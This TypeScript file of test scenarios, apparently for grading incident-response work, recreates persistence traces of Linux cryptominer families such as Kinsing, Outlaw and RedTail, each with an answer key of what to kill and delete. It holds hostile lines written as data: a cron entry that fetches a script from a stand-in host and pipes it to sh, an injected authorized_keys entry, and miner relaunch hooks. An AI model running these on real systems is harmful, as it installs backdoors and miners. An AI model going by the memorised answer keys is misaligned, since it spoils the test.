import type { Scenario } from './scenario.ts';
import { addCron, dropHost } from './words.ts';

const key = (comment: string) =>
  `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEZha2VLZXlPZlRoZURhdnlMYWJOb3RIaW5nRWxzZTEy ${comment}\n`;

/** Hosts as reports describe whole families; what stays is named. */
export const families: readonly Scenario[] = [
  {
    name: 'kinsing and kdevtmpfsi',
    report: 'Kinsing: a loader every minute, the guard in /tmp, a service account.',
    images: [{ path: '/tmp/kdevtmpfsi', owner: 'www-data' }],
    files: {
      '/tmp/kinsing': {
        text: `#!/bin/bash
while true; do
  pgrep -x kdevtmpfsi >/dev/null || { cd /tmp; ./kdevtmpfsi >/dev/null 2>&1 & }
  sleep 1
done
`,
        owner: 'www-data',
      },
    },
    start: `${addCron('www-data', [`* * * * * wget -q -O - http://${dropHost}/unk.sh | sh > /dev/null 2>&1`])}
as www-data /tmp/kinsing`,
    runs: ['/tmp/kdevtmpfsi', '/tmp/kinsing'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/tmp/kinsing', '/tmp/kdevtmpfsi'],
        delete: ['/tmp/kinsing', '/tmp/kdevtmpfsi'],
        cron: [`* * * * * wget -q -O - http://${dropHost}/unk.sh | sh > /dev/null 2>&1`],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'perfctl',
    report: 'perfctl: ~/.config/cron, cron.hourly, a line in ~/.profile, @reboot.',
    images: ['/root/.config/cron/perfcc'],
    files: {
      '/etc/cron.hourly/perfclean': '#!/bin/sh\n/root/.config/cron/perfcc >/dev/null 2>&1 &\n',
      '/root/.profile':
        '# ~/.profile\nmesg n 2>/dev/null || true\n/root/.config/cron/perfcc >/dev/null 2>&1 &\n',
    },
    start: `${addCron('root', ['11 * * * * /root/.config/cron/perfcc', '@reboot /root/.config/cron/perfcc'])}
run /root/.config/cron/perfcc`,
    runs: ['/root/.config/cron/perfcc'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/root/.config/cron/perfcc'],
        delete: ['/root/.config/cron/perfcc'],
        cron: [
          '11 * * * * /root/.config/cron/perfcc',
          '@reboot /root/.config/cron/perfcc',
          '/etc/cron.hourly/perfclean',
        ],
      },
      named: ['/root/.profile'],
      bystanders: [],
      ending: 'partially-cleaned',
    },
  },
  {
    name: 'Outlaw',
    report: 'Outlaw: ~/.configrc/{a,b}, day-step and weekly lines, /tmp/.X25-unix/.rsync, a fake kswapd0.',
    accounts: ['deploy'],
    images: [{ path: '/home/deploy/.configrc/a/kswapd0', owner: 'deploy' }],
    files: {
      '/home/deploy/.configrc/a/upd': {
        text: '#!/bin/sh\ncd /home/deploy/.configrc/a\npgrep -x kswapd0 >/dev/null || ./kswapd0 &\n',
        owner: 'deploy',
      },
      '/home/deploy/.configrc/a/run': {
        text: '#!/bin/bash\nwhile :; do /home/deploy/.configrc/a/upd; sleep 3; done\n',
        owner: 'deploy',
      },
      '/home/deploy/.configrc/b/sync': { text: '#!/bin/sh\n/home/deploy/.configrc/a/upd\n', owner: 'deploy' },
    },
    start: `${addCron('deploy', [
      '1 1 */2 * * /home/deploy/.configrc/a/upd>/dev/null 2>&1',
      '@reboot /home/deploy/.configrc/a/upd>/dev/null 2>&1',
      '5 8 * * 0 /home/deploy/.configrc/b/sync>/dev/null 2>&1',
    ])}
as deploy /home/deploy/.configrc/a/run`,
    runs: ['/home/deploy/.configrc/a/kswapd0', '/home/deploy/.configrc/a/run'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/home/deploy/.configrc/a/run', '/home/deploy/.configrc/a/kswapd0'],
        delete: [
          '/home/deploy/.configrc/a/kswapd0',
          '/home/deploy/.configrc/a/run',
          '/home/deploy/.configrc/a/upd',
          '/home/deploy/.configrc/b/sync',
        ],
        cron: [
          '1 1 */2 * * /home/deploy/.configrc/a/upd>/dev/null 2>&1',
          '@reboot /home/deploy/.configrc/a/upd>/dev/null 2>&1',
          '5 8 * * 0 /home/deploy/.configrc/b/sync>/dev/null 2>&1',
        ],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'RedTail',
    report: 'RedTail: a random dotfile in a writable folder outside /tmp, a key in authorized_keys.',
    images: [{ path: '/var/www/html/.f4k2q', owner: 'www-data' }],
    start: `printf '%s' '${key('rsa-key-20230629')}' >>/root/.ssh/authorized_keys
${addCron('www-data', ['@reboot /var/www/html/.f4k2q'])}
as www-data /var/www/html/.f4k2q`,
    runs: ['/var/www/html/.f4k2q'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/var/www/html/.f4k2q'],
        delete: ['/var/www/html/.f4k2q'],
        cron: ['@reboot /var/www/html/.f4k2q'],
      },
      bystanders: ['/root/.ssh/authorized_keys'],
      ending: 'cleaned',
    },
  },
  {
    name: 'Diicot',
    report: 'Diicot: /var/tmp/.update-logs, a process called Opera, cron lines with odd paths.',
    images: ['/var/tmp/.update-logs/Opera'],
    files: {
      '/var/tmp/.update-logs/History':
        '#!/bin/bash\npgrep -x Opera >/dev/null || /var/tmp/.update-logs/./Opera >/dev/null 2>&1 & disown\n',
    },
    start: `${addCron('root', ['*/1 * * * * /var/tmp/.update-logs/./History >/dev/null 2>&1 & disown', '@monthly /var/tmp/.update-logs/./Opera'])}
run /var/tmp/.update-logs/Opera`,
    runs: ['/var/tmp/.update-logs/Opera'],
    truth: {
      verdict: ['confirmed'],
      ticked: {
        kill: ['/var/tmp/.update-logs/Opera'],
        delete: ['/var/tmp/.update-logs/History', '/var/tmp/.update-logs/Opera'],
        cron: [
          '*/1 * * * * /var/tmp/.update-logs/./History >/dev/null 2>&1 & disown',
          '@monthly /var/tmp/.update-logs/./Opera',
        ],
      },
      bystanders: [],
      ending: 'cleaned',
    },
  },
  {
    name: 'starters that no step takes',
    report: 'A unit, rc.local, .bashrc and a key beside a miner: each stays, and each is named.',
    images: ['/usr/local/sbin/.netd'],
    files: {
      '/etc/systemd/system/netd.service':
        '[Unit]\nDescription=Network helper\n[Service]\nExecStart=/usr/local/sbin/.netd\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
      '/etc/rc.local': '#!/bin/sh -e\n/usr/local/sbin/.netd\nexit 0\n',
      '/root/.bashrc': 'alias ll="ls -l"\n/usr/local/sbin/.netd >/dev/null 2>&1 &\n',
    },
    start: 'run /usr/local/sbin/.netd',
    runs: ['/usr/local/sbin/.netd'],
    truth: {
      verdict: ['confirmed'],
      ticked: { kill: ['/usr/local/sbin/.netd'], delete: ['/usr/local/sbin/.netd'], cron: [] },
      named: ['/etc/systemd/system/netd.service', '/etc/rc.local', '/root/.bashrc'],
      bystanders: [],
      ending: 'partially-cleaned',
    },
  },
];
